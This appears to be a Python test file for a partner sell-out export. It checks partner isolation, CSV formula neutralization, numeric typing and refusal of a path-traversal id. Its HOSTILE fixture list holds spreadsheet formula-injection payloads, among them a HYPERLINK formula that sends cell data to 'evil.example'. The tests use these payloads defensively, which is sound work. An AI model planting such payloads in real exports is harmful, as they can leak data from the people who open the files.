"""Partner exports: that partner's lines only, formula-looking text neutralized in the CSV, raw in Parquet."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest

from reports import export_partner
from tests.guarantees import Figures
from tests.reports.conftest import ALPHA, BRAVO, Marts

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]


def _hostile_sellout(marts: Marts) -> pl.DataFrame:
    alpha = marts.sellout.filter(pl.col("partner_id") == ALPHA.partner_id)
    rows = (
        pl.concat([alpha, alpha])
        .head(len(HOSTILE))
        .with_columns(
            reseller_name=pl.Series(HOSTILE),
            line_id=pl.Series([f"hostile-{i}" for i in range(len(HOSTILE))]),
        )
    )
    return pl.concat([marts.sellout, rows])


def test_export_holds_only_that_partners_lines(tmp_path: Path, marts: Marts) -> None:
    csv_path, parquet_path = export_partner(marts.sellout, ALPHA.partner_id, tmp_path)

    assert (csv_path.name, parquet_path.name) == ("P0001-sellout.csv", "P0001-sellout.parquet")
    exported = pl.read_parquet(parquet_path)
    assert exported["partner_id"].unique().to_list() == [ALPHA.partner_id]
    assert exported.height == marts.sellout.filter(pl.col("partner_id") == ALPHA.partner_id).height
    text = csv_path.read_text(encoding="utf-8")
    for fact in (BRAVO.partner_id, BRAVO.reseller_name, BRAVO.sku, "44444.44"):
        assert fact not in text
    assert sorted(p.name for p in tmp_path.iterdir()) == ["P0001-sellout.csv", "P0001-sellout.parquet"]


def test_csv_neutralizes_formulas_and_keeps_numbers_numeric(
    tmp_path: Path, marts: Marts, figures: Figures
) -> None:
    sellout = _hostile_sellout(marts)

    csv_path, parquet_path = export_partner(sellout.lazy(), ALPHA.partner_id, tmp_path)

    with csv_path.open(newline="", encoding="utf-8") as handle:
        records = list(csv.DictReader(handle))
    names = [r["reseller_name"] for r in records]
    for value in HOSTILE:
        assert "'" + value in names
        assert value not in names
    assert ALPHA.reseller_name in names  # ordinary text untouched
    # Numbers stay numbers: negative quantities and amounts are written bare, not prefixed or quoted.
    assert {r["quantity"] for r in records} >= {"10", "-1"}
    assert "-5.00" in {r["net_amount"] for r in records}
    raw_lines = csv_path.read_text(encoding="utf-8").splitlines()
    assert any(",-1," in line for line in raw_lines)
    typed = pl.read_csv(csv_path, infer_schema_length=None)
    assert typed.schema["quantity"] == pl.Int64
    assert typed.schema["net_amount"].is_numeric()

    # Parquet keeps the raw values and types.
    exported = pl.read_parquet(parquet_path)
    assert set(HOSTILE) <= set(exported["reseller_name"].to_list())
    assert exported.schema == sellout.schema
    expected = sellout.filter(pl.col("partner_id") == ALPHA.partner_id).height
    figures.add(faults=len(HOSTILE), rows_checked=expected, rows_lost=expected - len(records))


def test_unknown_partner_is_an_error_naming_it(tmp_path: Path, marts: Marts) -> None:
    with pytest.raises(ValueError, match="P9999"):
        export_partner(marts.sellout, "P9999", tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_known_partner_without_lines_gets_header_only_files(tmp_path: Path, marts: Marts) -> None:
    partners = pl.DataFrame({"partner_id": ["P0009"], "legal_name": ["Charlie New"]})

    csv_path, parquet_path = export_partner(marts.sellout, "P0009", tmp_path, partners=partners)

    assert csv_path.read_text(encoding="utf-8").startswith('"line_id","distributor_id",')
    assert pl.read_parquet(parquet_path).height == 0


def test_a_partner_id_that_cannot_name_a_file_is_refused(tmp_path: Path, marts: Marts) -> None:
    with pytest.raises(ValueError, match="cannot name a file"):
        export_partner(marts.sellout, "../P0001", tmp_path)
